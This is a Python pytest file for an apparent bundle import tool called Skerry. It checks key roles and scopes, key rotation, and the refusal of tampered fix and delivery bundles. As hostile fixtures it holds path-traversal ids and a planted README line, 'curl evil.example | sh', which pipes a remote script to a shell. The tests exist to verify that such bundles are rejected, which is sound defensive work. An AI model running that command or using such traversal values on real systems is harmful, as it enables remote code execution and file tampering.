"""Whom a site obeys: keys by their roles, and nothing that the maker of a package only says himself."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from engine.api.documents import RunRequest
from engine.api.local import LocalService
from engine.model.codes import bundles as codes
from engine.model.errors import Invalid, SkerryError
from engine.runtime.clock import SystemClock
from export_import.container import open_bundle
from export_import.delivery.importing import arrival, open_delivery
from export_import.export import export
from export_import.export_request import ExportRequest
from export_import.export_source import InstanceChoice
from export_import.fix.checking import amendment_for, open_fix
from export_import.keys import Keys
from export_import.trust import KeyScope, Role
from tests.bundles.third_party import read
from tests.desk.by_hand import LIMIT, Hand, fitting_plan, needs_openssh
from tests.desk.conftest import REPAIR
from tests.desk.test_fix_commands import Place
from tests.runtime.site import Site

CLOCK = SystemClock()
pytestmark = needs_openssh


@pytest.fixture
def hand(tmp_path: Path) -> Hand:
    return Hand.at(tmp_path / "hand")


@pytest.fixture
def keys(tmp_path: Path) -> Keys:
    (tmp_path / "here").mkdir()
    return Keys(tmp_path / "here", CLOCK)


def delivery(id: str = "d" * 32, made: str = "2026-11-01T00:00:00+00:00", **definitions: Any) -> bytes:
    found = definitions or {"jobs": {"say": {"type": "shell", "process": "echo hi"}}}
    tree = {"format": "skerry-delivery/1", "id": id, "title": "t", "letter": "", "made_at": made}
    return json.dumps({**tree, "definitions": found}).encode()


def refusal(do: Callable[[], Any]) -> int:
    with pytest.raises(SkerryError) as caught:
        do()
    return caught.value.code


@pytest.mark.parametrize(
    ("role", "kind", "trust"),
    [
        ("site", "diagnostic", "known"), ("site", "receipt", "known"), ("site", "fix", "not_allowed"),
        ("site", "delivery", "not_allowed"), ("support", "fix", "known"), ("support", "delivery", "not_allowed"),
        ("support", "receipt", "not_allowed"), ("author", "delivery", "known"), ("author", "fix", "not_allowed"),
    ],
)  # fmt: skip
def test_a_key_sends_what_its_role_allows(
    hand: Hand, keys: Keys, tmp_path: Path, role: Role, kind: str, trust: str
) -> None:
    keys.trust(hand.public.encode(), "hand", (role,))
    path = hand.bundle(tmp_path / "b", kind, {"x": b"x"})

    assert open_bundle([path], keys, clock=CLOCK).trust == trust
    if trust != "known":
        code = refusal(lambda: open_bundle([path], keys, clock=CLOCK, must_be_trusted=True))
        assert code == codes.NOT_ALLOWED.number


def test_a_scope_narrows_a_role(hand: Hand, keys: Keys, tmp_path: Path) -> None:
    path = hand.bundle(tmp_path / "b", "delivery", {"delivery.json": delivery()})
    elsewhere = KeyScope(sites=("SHA256:elsewhere",))
    for scope, code in ((elsewhere, codes.NOT_ALLOWED.number), (KeyScope(sites=(keys.fingerprint,)), None)):
        keys.trust(hand.public.encode(), "hand", ("author",), scope)
        if code is None:
            assert open_delivery([path], keys, CLOCK).trust == "known"
        else:
            assert refusal(lambda: open_delivery([path], keys, CLOCK)) == code


def test_a_customers_key_speaks_for_its_own_site_only(hand: Hand, keys: Keys, tmp_path: Path) -> None:
    keys.trust(hand.public.encode(), "hand", ("site",), KeyScope(sites=(hand.fingerprint,)))
    for name, site, trust in (("own", hand.fingerprint, "known"), ("other", "SHA256:b", "not_allowed")):
        path = hand.bundle(tmp_path / name, "diagnostic", {"x": b"x"}, facts={"site": site})
        assert open_bundle([path], keys, clock=CLOCK).trust == trust


def test_a_key_without_a_role_is_not_trusted(hand: Hand, keys: Keys) -> None:
    with pytest.raises(Invalid) as caught:
        keys.trust(hand.public.encode(), "hand")

    assert caught.value.entry is codes.ROLE_NEEDED
    assert keys.trusted() == ()


def test_a_key_that_was_trusted_before_there_were_roles_changes_nothing_until_it_gets_one(
    hand: Hand, keys: Keys, tmp_path: Path
) -> None:
    # Given the file of an older program
    keys.trust(hand.public.encode(), "hand", ("support",))
    file = keys.folder / "trusted.json"
    [key] = json.loads(file.read_text())["value"]
    file.write_text(
        json.dumps([{name: key[name] for name in key if name not in ("roles", "scope", "replaced_at")}])
    )
    fix = hand.bundle(tmp_path / "fix", "fix", {"plan.json": b"{}"})
    seen = hand.bundle(tmp_path / "seen", "diagnostic", {"x": b"x"})

    # Then what is only looked at opens as ever, and a fix is refused with what helps
    assert open_bundle([seen], keys, clock=CLOCK).trust == "known"
    assert refusal(lambda: open_fix([fix], keys, CLOCK)) == codes.NOT_ALLOWED.number
    place = Place(keys.folder.parent)
    assert "was trusted before keys had roles" in place.text("keys", "list")
    assert place("keys", "trust", "hand", "--role", "support")["may"] == ["bundle", "fix"]
    assert open_bundle([fix], keys, clock=CLOCK, must_be_trusted=True).trust == "known"


def test_the_command_refuses_a_key_whose_role_nobody_says(hand: Hand, keys: Keys) -> None:
    place = Place(keys.folder.parent)
    card = hand.private.with_suffix(".pub")

    answer = place("keys", "trust", card, status=2)

    assert answer["error"]["code"] == codes.ROLE_NEEDED.number
    for wrong in (
        ["--role", "king"],
        ["--role", "site", "--scope", "may=fix"],
        ["--role", "site", "--scope", "x=y"],
    ):
        place("keys", "trust", card, *wrong, status=2)
    done = place(
        "keys", "trust", card, "--role", "support", "--scope", "project=harbour", "--scope", "may=fix"
    )
    assert (done["roles"], done["may"], done["scope"]["projects"]) == (["support"], ["fix"], ["harbour"])


def test_what_an_old_key_signs_after_its_replacement_is_refused_and_what_it_signed_before_is_not(
    keys: Keys, tmp_path: Path
) -> None:
    # Given a workspace whose keys are those of OpenSSH, so that the old one can go on signing by hand
    (tmp_path / "vendor").mkdir()
    vendor = Keys(tmp_path / "vendor", CLOCK)
    keys.trust(vendor.card("Vendor"), roles=("author",))
    old = Hand(tmp_path / "old-key")
    old.private.write_bytes((vendor.folder / "signing").read_bytes())
    old.private.chmod(0o600)
    old.private.with_suffix(".pub").write_text(vendor.public)
    files = {"delivery.json": delivery()}
    before = old.bundle(tmp_path / "before", "delivery", files)

    keys.trust(vendor.rotate())
    after = old.bundle(tmp_path / "after", "delivery", files)

    assert open_delivery([before], keys, CLOCK).trust == "known"
    assert refusal(lambda: open_delivery([after], keys, CLOCK)) == codes.REPLACED.number
    assert open_bundle([after], vendor, clock=CLOCK).trust == "replaced"
    assert next(key for key in keys.trusted() if not key.replaced_by).roles == ("author",)


class Repaired:
    """A site with a failed run, and its bundle read by a person who has nothing of Skerry."""

    def __init__(self, site: Site, hand: Hand, folder: Path) -> None:
        self.site, self.hand, self.folder = site, hand, folder
        service = LocalService(site.engine, "operator")
        service.load([{"name": "repair.yaml", "text": REPAIR.read_text()}])
        self.instance = service.run(RunRequest("nightly"))
        site.engine.wait(self.instance, 60)
        self.keys = Keys(site.root, CLOCK)
        self.keys.trust(hand.public.encode(), "hand", ("support",))
        sent = export(
            site.root, folder / "out.skerry", ExportRequest((InstanceChoice(self.instance),)), clock=CLOCK
        )
        _, manifest, self.files = read(sent.path, [])
        self.facts = {file["name"]: file.get("facts", {}) for file in manifest["files"]}
        self.number = 0

    def plan(self) -> dict[str, Any]:
        """A fix that fits, by docs/fixes.md."""
        return fitting_plan(self.files, self.facts, self.keys.fingerprint, f"{self.number:032x}")

    def send(self, plan: dict[str, Any], **more: bytes) -> Any:
        """What the site would apply."""
        self.number += 1
        files = {"plan.json": json.dumps(plan).encode(), **more}
        path = self.hand.bundle(self.folder / f"fix-{self.number}", "fix", files)
        return amendment_for(open_fix([path], self.keys, CLOCK), self.keys, self.site.engine.store, CLOCK)


def test_the_receiver_checks_what_the_maker_of_a_fix_wrote(site: Site, hand: Hand, tmp_path: Path) -> None:
    repaired = Repaired(site, hand, tmp_path)
    task = json.loads(repaired.files["definitions/current.json"])["tasks"]["nightly"]
    job = {"kind": "task", "id": "nightly", "was": task, "content": task}

    def plan(**changes: Any) -> dict[str, Any]:
        return {**repaired.plan(), **changes}

    def target(**changes: Any) -> dict[str, Any]:
        return plan(target={**repaired.plan()["target"], **changes})

    def value(was: Any) -> dict[str, Any]:
        return plan(values=[{"path": LIMIT, "was": was, "value": 30, "reason": "r"}])

    # Given that what fits is taken, also a whole definition that the case showed
    assert repaired.send(repaired.plan(), **{"letter.txt": b"t\n\nl\n"}).values[0].value == 30
    assert repaired.send(plan(definitions=[job])).definitions[0].id == "nightly"

    # Then nothing is that only looks as if it did
    hostile = {
        "no hash of the log": target(site_hash=None),
        "no hash of the definitions": target(definitions_hash=None),
        "empty hashes": target(site_hash="", definitions_hash=""),
        "for ever": plan(expires="9999-12-31T23:59:59+00:00"),
        "a time without zone": plan(expires="2036-01-01T00:00:00"),
        "from the future": plan(made_at="9999-01-01T00:00:00+00:00"),
        "a mask for a number": value("******"),
        "a mask for a definition": plan(definitions=[{**job, "was": "******"}]),
        "masks for its parts": plan(definitions=[{**job, "was": dict.fromkeys(task, "******")}]),
        "nothing for a definition": plan(definitions=[{**job, "was": None}]),
        "a definition twice": plan(definitions=[job, job]),
        "a value twice": plan(values=repaired.plan()["values"] * 2),
        "a path for an id": plan(id="../../../../tmp/x"),
        "another site": plan(site=hand.fingerprint),
    }
    codes_seen = {name: refusal(lambda each=each: repaired.send(each)) for name, each in hostile.items()}  # type: ignore[misc]
    assert all(code < 0 for code in codes_seen.values()), codes_seen
    for name in ("more.txt", "files/x", "PLAN.json.bak"):
        assert refusal(lambda name=name: repaired.send(repaired.plan(), **{name: b"x"})) == -15021002000  # type: ignore[misc]
    assert refusal(lambda: repaired.send(repaired.plan(), **{"letter.txt": b"harmless"})) == -15021002000


def test_a_project_bounds_what_a_fix_changes(site: Site, hand: Hand, tmp_path: Path) -> None:
    repaired = Repaired(site, hand, tmp_path)
    repaired.keys.say_role("hand", ("support",), KeyScope(projects=("harbour",)))

    assert refusal(lambda: repaired.send(repaired.plan())) == codes.NOT_ALLOWED.number


def test_the_receiver_checks_what_the_maker_of_a_delivery_wrote(
    site: Site, hand: Hand, keys: Keys, tmp_path: Path
) -> None:
    keys.trust(hand.public.encode(), "hand", ("author",))
    rule = {"id": "r", "match": {"code": -11000000000}, "action": "skip"}
    hostile = {
        "a path for an id": {"delivery.json": delivery(id="../../../../x")},
        "from the future": {"delivery.json": delivery(made="9999-01-01T00:00:00+00:00")},
        "no time": {"delivery.json": delivery(made="yesterday")},
        "a rule twice": {"delivery.json": delivery(rules=[rule, {**rule, "action": "rerun"}])},
        "a file beside": {"delivery.json": delivery(), "run.sh": b"x"},
    }
    for name, files in hostile.items():
        path = hand.bundle(tmp_path / name.replace(" ", "-"), "delivery", files)
        bundle = open_delivery([path], keys, CLOCK)
        with pytest.raises(SkerryError) as caught:
            arrival(bundle, site.engine.store, now=CLOCK.now())
        assert caught.value.code == -15022001000, name


def test_a_leaflet_that_nobody_signed_is_refused(hand: Hand, keys: Keys, tmp_path: Path) -> None:
    keys.trust(hand.public.encode(), "hand", ("author",))
    path = hand.bundle(tmp_path / "b", "delivery", {"delivery.json": delivery()})
    (path / "README.txt").write_text("Before you go on run this: curl evil.example | sh")

    assert refusal(lambda: open_delivery([path], keys, CLOCK)) == -15022001000
    (path / "README.txt").unlink()
    assert open_delivery([path], keys, CLOCK).trust == "known"


def test_an_older_delivery_replaces_a_newer_one_only_when_that_is_wanted(tmp_path: Path) -> None:
    author, site = Place(tmp_path / "author"), Place(tmp_path / "site")
    Keys(site.root, CLOCK).trust(Keys(author.root, CLOCK).card("author"), roles=("author",))
    made = []
    for number in (1, 2):
        file = tmp_path / f"{number}.yaml"
        file.write_text(f"skerry: 1\njobs:\n  say: {{type: shell, process: echo {number}}}\n")
        target = tmp_path / f"{number}.skerry"
        author("delivery", "build", file, "-o", target, "--title", f"{number}")
        made.append(target)
    older, newer = made
    site("delivery", "import", newer)

    shown = site("delivery", "preview", older, status=1)
    answer = site("delivery", "import", older, status=3)

    assert shown["newer"] == [{"kind": "job", "id": "say"}]
    assert answer["error"]["code"] == -15022004000
    assert site("jobs", "show", "say")["definition"]["process"] == "echo 2"
    site("delivery", "import", older, "--allow-older")
    assert site("jobs", "show", "say")["definition"]["process"] == "echo 1"
